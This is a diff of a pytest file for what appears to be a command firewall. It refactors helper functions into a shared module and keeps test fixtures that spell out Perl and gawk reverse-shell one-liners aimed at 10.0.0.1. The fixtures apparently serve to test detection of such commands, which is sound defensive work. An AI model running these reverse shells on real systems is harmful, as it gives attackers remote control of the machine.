@@ -4,8 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from gateway.firewall.normalize import normalize
-from gateway.models import ActionFacts
+from tests.unit.firewall.shells import programs, shell
 
 PERL_SHELL = (
     'perl -e \'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname'
@@ -16,14 +15,6 @@ GAWK_SHELL = (
     'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { printf "> " |& s; '
     "s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c) } } }' /dev/null"
 )
-
-
-def shell(command: str) -> ActionFacts:
-    return normalize("bash", {"command": command})
-
-
-def programs(command: str) -> list[str]:
-    return [c.program for c in shell(command).commands]
 
 
 @pytest.mark.parametrize(
